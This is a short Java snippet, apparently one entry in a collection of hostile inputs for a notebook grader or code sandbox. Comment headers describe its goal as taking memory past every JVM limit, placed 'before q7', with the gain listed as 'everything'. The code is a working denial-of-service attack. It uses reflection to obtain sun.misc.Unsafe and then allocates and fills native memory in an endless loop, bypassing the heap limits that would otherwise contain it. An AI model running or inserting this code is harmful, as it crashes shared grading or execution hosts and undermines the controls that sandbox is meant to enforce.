// Tries: takes memory past every limit of the JVM
// Cell: before q7
// Gets: everything
// Says: 
java.lang.reflect.Field field = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
field.setAccessible(true);
sun.misc.Unsafe unsafe = (sun.misc.Unsafe) field.get(null);
while (true) {
    unsafe.setMemory(unsafe.allocateMemory(1 << 24), 1 << 24, (byte) 1);
}
